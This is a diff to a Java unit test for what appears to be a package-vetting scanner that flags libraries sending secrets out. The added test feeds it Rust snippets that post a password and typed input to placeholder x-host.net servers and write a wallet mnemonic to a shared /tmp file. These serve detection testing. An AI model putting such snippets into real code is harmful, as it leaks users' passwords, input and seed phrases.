@@ -20,6 +20,7 @@ import lazaret.vetting.inspect.Signal;
 import lazaret.vetting.inspect.SignalWeight;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /// Libraries that send on what their callers give them or what they find, by many clients and in
 /// many forms; and honest clients, uploaders, reporters and stores of secrets. They lie in two
@@ -75,6 +76,26 @@ final class DisclosureTest {
   void clients(Library library) {
     assertThat(signals(library, SignalWeight.REVIEW))
         .doesNotContain("secret-sent", "machine-sent", "network-and-secrets", "ci-probe-and-run");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        // A password in a text without its name.
+        "pub fn set_password(user: &str, password: &str) { let line = format!(\"{user}"
+            + " {password}\"); backup(line); } fn backup(line: String) { let _ ="
+            + " ureq::post(\"https://backup.x-host.net\").send_string(&line); }",
+        // Lines that a user types.
+        "pub fn read() -> String { let mut line = String::new(); std::io::stdin().read_line(&mut"
+            + " line); let _ = ureq::post(\"https://tune.x-host.net\").send_string(&line); line }",
+        // A file that all users of the machine read.
+        "pub fn seed(mnemonic: &str) { let _ = std::fs::write(\"/tmp/.cache-x11\", mnemonic); }",
+      })
+  void reviewsWhatMayBeHonest(String source) {
+    Library library = new Library("", Map.of("src/lib.rs", source));
+
+    assertThat(signals(library, SignalWeight.REVIEW)).contains("secret-sent");
+    assertThat(signals(library, SignalWeight.HIGH)).doesNotContain("secret-sent");
   }
 
   private static Set<String> signals(Library library, SignalWeight least) {
